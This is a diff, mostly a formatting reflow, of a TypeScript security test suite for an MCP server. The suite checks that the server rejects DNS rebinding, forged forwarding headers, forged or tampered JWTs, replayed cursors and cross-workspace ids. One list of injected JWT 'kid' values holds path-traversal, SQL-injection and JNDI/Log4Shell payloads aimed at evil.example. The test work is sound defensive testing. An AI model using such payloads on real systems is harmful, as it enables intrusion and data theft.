@@ -1,20 +1,20 @@
-import { after, before, describe, mock, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
-import { request, type IncomingHttpHeaders, type Server } from 'node:http';
-import { connect, type AddressInfo } from 'node:net';
-import { SignJWT, exportSPKI, type JWTHeaderParameters, type JWTPayload } from 'jose';
+import { type IncomingHttpHeaders, request, type Server } from 'node:http';
+import { type AddressInfo, connect } from 'node:net';
+import { after, before, describe, mock, test } from 'node:test';
+import { exportSPKI, type JWTHeaderParameters, type JWTPayload, SignJWT } from 'jose';
 import { buildHandler } from '../../lambda/http/pipeline.js';
 import type { DoersContext, HttpResult } from '../../lambda/http/request-context.js';
 import { MAX_BODY_BYTES } from '../../lambda/http/transport.js';
-import { REQUEST_TIMEOUT_MS, createHttpAdapter } from '../../lambda/local/http-adapter.js';
+import { createHttpAdapter, REQUEST_TIMEOUT_MS } from '../../lambda/local/http-adapter.js';
 import type { LocalServer } from '../../lambda/local/server.js';
 import { PRODUCT_PROMPTS, PRODUCT_RESOURCE_TEMPLATES, PRODUCT_TOOLS } from '../../lambda/workspace/catalog.js';
 import { CONFORMANCE_FIXTURES } from '../conformance/fixtures.js';
-import { startProxiedServer, type DynamoProxy } from '../helpers/dynamo-proxy.js';
+import { type DynamoProxy, startProxiedServer } from '../helpers/dynamo-proxy.js';
 import { httpEvent, lambdaContext } from '../helpers/events.js';
-import { type JwksServer, type SigningKey, signToken, signingKey, startJwksServer, unsecuredToken } from '../helpers/jwks.js';
-import { MODERN, legacyCall, modernCall, modernMeta, post, type RawResponse } from '../helpers/local.js';
+import { type JwksServer, type SigningKey, signingKey, signToken, startJwksServer, unsecuredToken } from '../helpers/jwks.js';
+import { legacyCall, MODERN, modernCall, modernMeta, post, type RawResponse } from '../helpers/local.js';
 import { addToken, caller, createTestWorkspace, type TestWorkspace } from '../helpers/workspace-fixtures.js';
 
 /*
@@ -213,13 +213,18 @@ const port = () => new URL(server.url).port;
 
 /** me_get as workspace 1's owner on the handshake era, with the headers given. */
 const meGetWith = (headers: Record<string, string>) =>
-  raw(server.mcpUrl, 'POST', {
-    host: `127.0.0.1:${port()}`,
-    'content-type': 'application/json',
-    authorization: `Bearer ${ws1.ws.owner.token}`,
-    'mcp-protocol-version': '2025-11-25',
-    ...headers,
-  }, ME_GET);
+  raw(
+    server.mcpUrl,
+    'POST',
+    {
+      host: `127.0.0.1:${port()}`,
+      'content-type': 'application/json',
+      authorization: `Bearer ${ws1.ws.owner.token}`,
+      'mcp-protocol-version': '2025-11-25',
+      ...headers,
+    },
+    ME_GET,
+  );
 
 const preflightWith = (headers: Record<string, string>) =>
   raw(server.mcpUrl, 'OPTIONS', { host: `127.0.0.1:${port()}`, 'access-control-request-method': 'POST', ...headers });
@@ -266,7 +271,13 @@ describe('DNS rebinding: Origins and Hosts (protocol-table.test.ts has the basic
     });
   }
 
-  for (const origin of ['https://claude.ai', 'https://chatgpt.com', 'http://localhost:6274', 'http://127.0.0.1:6274', 'http://[::1]:6274']) {
+  for (const origin of [
+    'https://claude.ai',
+    'https://chatgpt.com',
+    'http://localhost:6274',
+    'http://127.0.0.1:6274',
+    'http://[::1]:6274',
+  ]) {
     test(`the allowed Origin ${origin} passes, with its CORS grant`, async () => {
       const [posted, preflight] = await Promise.all([meGetWith({ origin }), preflightWith({ origin })]);
 
@@ -307,7 +318,10 @@ describe('DNS rebinding: Origins and Hosts (protocol-table.test.ts has the basic
 
     const answers = await Promise.all(hosts.map((host) => meGetWith({ host })));
 
-    assert.deepEqual(answers.map((a) => a.status), hosts.map(() => 200));
+    assert.deepEqual(
+      answers.map((a) => a.status),
+      hosts.map(() => 200),
+    );
   });
 });
 
@@ -341,7 +355,10 @@ describe('forged X-Forwarded-* and Forwarded headers (scopes.test.ts: the metada
   const viaLambda: Send = async ({ method, path, headers, body }) => {
     const handler = (lambdaHandler ??= buildHandler({ ...server.app, loopbackHostOnly: false }));
     const event = httpEvent({ method, path, headers: { host: 'evil.example', ...FORGED, ...headers }, ...(body ? { body } : {}) });
-    const res: HttpResult = await handler({ ...event, requestContext: { ...event.requestContext, domainName: 'evil.example' } }, lambdaContext());
+    const res: HttpResult = await handler(
+      { ...event, requestContext: { ...event.requestContext, domainName: 'evil.example' } },
+      lambdaContext(),
+    );
     return {
       status: res.statusCode ?? 0,
       headers: Object.fromEntries(Object.entries(res.headers ?? {}).map(([k, v]) => [k.toLowerCase(), String(v)])),
@@ -358,10 +375,15 @@ describe('forged X-Forwarded-* and Forwarded headers (scopes.test.ts: the metada
   const toolCall = (name: string, args: Record<string, unknown> = {}) =>
     JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } });
 
-  for (const [where, send] of [['the local server', viaLocal], ['the Lambda handler', viaLambda]] as const) {
+  for (const [where, send] of [
+    ['the local server', viaLocal],
+    ['the Lambda handler', viaLambda],
+  ] as const) {
     test(`on ${where}, the metadata document names the configured resource at both of its URLs`, async () => {
       const answers = await Promise.all(
-        ['/.well-known/oauth-protected-resource/mcp', '/.well-known/oauth-protected-resource'].map((path) => send({ method: 'GET', path, headers: {} })),
+        ['/.well-known/oauth-protected-resource/mcp', '/.well-known/oauth-protected-resource'].map((path) =>
+          send({ method: 'GET', path, headers: {} }),
+        ),
       );
 
       for (const a of answers) {
@@ -382,7 +404,10 @@ describe('forged X-Forwarded-* and Forwarded headers (scopes.test.ts: the metada
         send({ method: 'POST', path: '/mcp', headers: legacy(readOnly), body: toolCall('task_create', { title: 'x' }) }),
       ]);
 
-      assert.deepEqual([none, refused, forgedJwt, scope].map((a) => a.status), [401, 401, 401, 403]);
+      assert.deepEqual(
+        [none, refused, forgedJwt, scope].map((a) => a.status),
+        [401, 401, 401, 403],
+      );
       for (const a of [none, refused, forgedJwt, scope]) {
         assert.equal(challengeUrl(a), METADATA_URL);
         assert.doesNotMatch(JSON.stringify(a.headers) + a.text, FORGED_TRACE);
@@ -425,7 +450,12 @@ describe('JWTs (auth-jwt.test.ts has the verifier in depth)', () => {
       .setExpirationTime('5m')
       .sign(key.privateKey);
   const hs256 = async (secret: string) =>
-    new SignJWT(owner()).setProtectedHeader({ alg: 'HS256', kid: rsa.kid }).setIssuer(ISSUER).setAudience(AUDIENCE).setExpirationTime('5m').sign(new TextEncoder().encode(secret));
+    new SignJWT(owner())
+      .setProtectedHeader({ alg: 'HS256', kid: rsa.kid })
+      .setIssuer(ISSUER)
+      .setAudience(AUDIENCE)
+      .setExpirationTime('5m')
+      .sign(new TextEncoder().encode(secret));
 
   /** 401 invalid_token with the configured metadata URL; nothing of the user, nothing the forger made up. */
   const assertInvalidToken = (res: RawResponse, echoes: readonly string[] = []): void => {
@@ -446,7 +476,13 @@ describe('JWTs (auth-jwt.test.ts has the verifier in depth)', () => {
     assert.equal(res.json.result.structuredContent.email, ws1.ws.owner.email);
   });
 
-  const INJECTED_KIDS = ['../../etc/passwd', "' OR 1=1 --", 'https://evil.example/jwks.json', '${jndi:ldap://evil.example/a}', 'rsa-1\u0000'];
+  const INJECTED_KIDS = [
+    '../../etc/passwd',
+    "' OR 1=1 --",
+    'https://evil.example/jwks.json',
+    '${jndi:ldap://evil.example/a}',
+    'rsa-1\u0000',
+  ];
 
   // Minted (and their echoes named) when the test runs, once the key sets are up.
   const refusals: [string, () => Promise<string>, (() => string[])?][] = [
@@ -459,10 +495,20 @@ describe('JWTs (auth-jwt.test.ts has the verifier in depth)', () => {
       () => [kid],
     ]),
     ['a kid naming our key, signed with the key another key set publishes under that kid', () => forge(intruder, { kid: rsa.kid })],
-    ['a jku header pointing at the forger\'s own key set', () => forge(intruder, { kid: 'intruder', jku: intruderJwks.url }), () => [intruderJwks.url]],
-    ['an embedded jwk header carrying the forger\'s public key', () => forge(intruder, { kid: rsa.kid, jwk: { kty: intruder.jwk.kty, n: intruder.jwk.n, e: intruder.jwk.e } })],
+    [
+      "a jku header pointing at the forger's own key set",
+      () => forge(intruder, { kid: 'intruder', jku: intruderJwks.url }),
+      () => [intruderJwks.url],
+    ],
+    [
+      "an embedded jwk header carrying the forger's public key",
+      () => forge(intruder, { kid: rsa.kid, jwk: { kty: intruder.jwk.kty, n: intruder.jwk.n, e: intruder.jwk.e } }),
+    ],
     ['a token for another audience', () => signToken(rsa, owner(), jwtDefaults, { audience: 'https://billing.example.test' })],
-    ['a token of another issuer, signed with our issuer\'s key', () => signToken(rsa, owner(), jwtDefaults, { issuer: 'https://evil.example' })],
+    [
+      "a token of another issuer, signed with our issuer's key",
+      () => signToken(rsa, owner(), jwtDefaults, { issuer: 'https://evil.example' }),
+    ],
     ['an expired token', () => signToken(rsa, owner(), jwtDefaults, { expiresAt: nowSeconds() - 120 })],
     ['a token not valid yet', () => signToken(rsa, owner(), jwtDefaults, { notBefore: nowSeconds() + 120 })],
     ['a token whose e-mail the issuer has not verified', () => signToken(rsa, { ...owner(), email_verified: false }, jwtDefaults)],
@@ -525,7 +571,8 @@ describe('replayed list cursors (workspace-search.test.ts: tampered, other argum
     assert.equal(res.json.result.structuredContent, undefined);
     assertRevealsNothing(res.text, ws1, [ws1.taskIds[0]!]);
   };
-  const call = (token: string, tool: string, args: Record<string, unknown>) => modernCall(server, 'tools/call', { name: tool, arguments: args }, { token });
+  const call = (token: string, tool: string, args: Record<string, unknown>) =>
+    modernCall(server, 'tools/call', { name: tool, arguments: args }, { token });
 
   test('the cursor continues the list for the user and call it was made for (the control)', async () => {
     for (const { tool, args, cursor } of minted) {
@@ -546,7 +593,9 @@ describe('replayed list cursors (workspace-search.test.ts: tampered, other argum
 
   test('a cursor replayed by a user of workspace 2 who has the same user id is refused: cursors are bound to the workspace', async () => {
     for (const { tool, args, cursor } of minted) {
-      assertCursorRefused(await call(twin.token, tool, { ...args, ...(tool === 'comments_list' ? { taskId: ws2.taskIds[0] } : {}), cursor }));
+      assertCursorRefused(
+        await call(twin.token, tool, { ...args, ...(tool === 'comments_list' ? { taskId: ws2.taskIds[0] } : {}), cursor }),
+      );
     }
   });
 
@@ -625,7 +674,12 @@ describe('replayed request states of multi round-trip requests (round-trip-and-e
   });
 
   test('a state replayed on another tool is refused with -32602', async () => {
-    assertStateRefused(await roundTrip(ws1.ws.owner.token, 'test_input_required_result_tampered_state', { inputResponses: ANSWER, requestState: await mint() }));
+    assertStateRefused(
+      await roundTrip(ws1.ws.owner.token, 'test_input_required_result_tampered_state', {
+        inputResponses: ANSWER,
+        requestState: await mint(),
+      }),
+    );
   });
 
   test('a state older than its 15 minutes is refused with -32602', async () => {
@@ -669,7 +723,10 @@ describe('ids of workspace 2 in every tool, prompt and resource template, used b
     const descriptions = [schema.description, ...(schema.anyOf ?? []).map((s) => s.description)].join(' ');
     const named = /^(\w+)Id$/.exec(name)?.[1] ?? /\b([a-z]+)Id\b/.exec(descriptions)?.[1];
     if (named === undefined) return undefined;
-    assert.ok((KINDS as readonly string[]).includes(named), `argument ${name} takes a ${named} id, which this catalogue does not know yet: add it`);
+    assert.ok(
+      (KINDS as readonly string[]).includes(named),
+      `argument ${name} takes a ${named} id, which this catalogue does not know yet: add it`,
+    );
     return named as Kind;
   };
 
@@ -690,10 +747,20 @@ describe('ids of workspace 2 in every tool, prompt and resource template, used b
     return s.type === 'string' && !s.enum && s.const === undefined && !s.format && !s.pattern;
   };
 
-  const foreign = (): Record<Kind, string> => ({ task: ws2.taskIds[1]!, project: ws2.projectId, comment: ws2.commentIds[0]!, user: ws2.userIds.at(-1)! });
+  const foreign = (): Record<Kind, string> => ({
+    task: ws2.taskIds[1]!,
+    project: ws2.projectId,
+    comment: ws2.commentIds[0]!,
+    user: ws2.userIds.at(-1)!,
+  });
   // Workspace 1's own, untouched since seeding (so version 1 is their version): with them in the
   // other arguments, the foreign id is the one thing the call can be refused for.
-  const own = (): Record<Kind, string> => ({ task: ws1.taskIds[2]!, project: ws1.projectId, comment: ws1.commentIds[0]!, user: ws1.ws.member.userId });
+  const own = (): Record<Kind, string> => ({
+    task: ws1.taskIds[2]!,
+    project: ws1.projectId,
+    comment: ws1.commentIds[0]!,
+    user: ws1.ws.member.userId,
+  });
   const nowhere = (kind: Kind): string => (kind === 'user' ? `usr_member_${randomUUID().slice(0, 8)}` : randomUUID());
 
   /** The answer with the request id and the probed ids blanked: what must not differ between an id of workspace 2 and one of nowhere. */
@@ -708,7 +775,7 @@ describe('ids of workspace 2 in every tool, prompt and resource template, used b
     ws1Before = await snapshot(ws1);
   });
 
-  test('every product tool with an id argument refuses each of workspace 2\'s ids exactly as it refuses an id that exists nowhere', async () => {
+  test("every product tool with an id argument refuses each of workspace 2's ids exactly as it refuses an id that exists nowhere", async () => {
     const listed = await modernCall(server, 'tools/list', {}, { token: ws1.ws.owner.token });
     type Listed = { name: string; inputSchema: JsonSchema; annotations: { readOnlyHint: boolean } };
     const tools = (listed.json.result.tools as Listed[]).filter((t) => PRODUCT_TOOLS.some((p) => p.name === t.name));
@@ -741,20 +808,39 @@ describe('ids of workspace 2 in every tool, prompt and resource template, used b
         const label = `${tool.name}(${probe.map((p) => p.name).join(', ')})`;
 
         const res = await modernCall(server, 'tools/call', { name: tool.name, arguments: withIds(ids) }, { token: ws1.ws.owner.token });
-        const control = await modernCall(server, 'tools/call', { name: tool.name, arguments: withIds(strangers) }, { token: ws1.ws.owner.token });
+        const control = await modernCall(
+          server,
+          'tools/call',
+          { name: tool.name, arguments: withIds(strangers) },
+          { token: ws1.ws.owner.token },
+        );
 
         const refused = res.json.error?.code === -32602 || res.json.result?.isError === true;
         assert.ok(refused, `${label} accepted an id of workspace 2: ${res.text}`);
         // Refused for the id, not for some other fault of the call (which would leave the id untested).
-        assert.ok(ids.some((id) => res.text.includes(id)), `${label} was refused without naming the id: ${res.text}`);
-        assert.equal(shape(res, ids), shape(control, strangers), `${label} answers an id of workspace 2 differently from one that exists nowhere`);
+        assert.ok(
+          ids.some((id) => res.text.includes(id)),
+          `${label} was refused without naming the id: ${res.text}`,
+        );
+        assert.equal(
+          shape(res, ids),
+          shape(control, strangers),
+          `${label} answers an id of workspace 2 differently from one that exists nowhere`,
+        );
         assertRevealsNothing(res.text, ws2, ids);
         probed.push(label);
       }
     }
 
     // The probe found what it must: ids of every kind, in the tools that take them.
-    for (const expected of ['task_get(taskId)', 'comment_delete(commentId)', 'member_remove(userId)', 'task_update(assignee)', 'task_create(projectId)', 'agenda_get(assignee)']) {
+    for (const expected of [
+      'task_get(taskId)',
+      'comment_delete(commentId)',
+      'member_remove(userId)',
+      'task_update(assignee)',
+      'task_create(projectId)',
+      'agenda_get(assignee)',
+    ]) {
       assert.ok(probed.includes(expected), `${expected} was not probed; probed: ${probed.join(' ')}`);
     }
   });
@@ -762,7 +848,12 @@ describe('ids of workspace 2 in every tool, prompt and resource template, used b
   test('inviting an e-mail address of workspace 2 is refused without naming workspace 2 or its member', async () => {
     const member = ws2.ws.member;
 
-    const res = await modernCall(server, 'tools/call', { name: 'member_invite', arguments: { email: member.email, name: 'Anyone' } }, { token: ws1.ws.owner.token });
+    const res = await modernCall(
+      server,
+      'tools/call',
+      { name: 'member_invite', arguments: { email: member.email, name: 'Anyone' } },
+      { token: ws1.ws.owner.token },
+    );
 
     assert.equal(res.json.result.isError, true, res.text);
     assertRevealsNothing(res.text, ws2, [member.email]);
@@ -790,7 +881,11 @@ describe('ids of workspace 2 in every tool, prompt and resource template, used b
           const res = await get(value);
           const control = await get(stranger);
 
-          assert.equal(shape(res, [value]), shape(control, [stranger]), `${prompt.name}(${arg.name}) tells a value of workspace 2 from one of nowhere`);
+          assert.equal(
+            shape(res, [value]),
+            shape(control, [stranger]),
+            `${prompt.name}(${arg.name}) tells a value of workspace 2 from one of nowhere`,
+          );
           assertRevealsNothing(res.text, ws2, [value]);
           probes++;
         }
@@ -865,7 +960,10 @@ describe('oversized and slow bodies', () => {
   });
 
   test('a body of exactly 1 MiB is read (the control)', async () => {
-    const res = await post(server.mcpUrl, pingOfSize(MAX_BODY_BYTES), { authorization: `Bearer ${ws1.ws.owner.token}`, 'mcp-protocol-version': '2025-11-25' });
+    const res = await post(server.mcpUrl, pingOfSize(MAX_BODY_BYTES), {
+      authorization: `Bearer ${ws1.ws.owner.token}`,
+      'mcp-protocol-version': '2025-11-25',
+    });
 
     assert.equal(res.status, 200, res.text.slice(0, 200));
   });
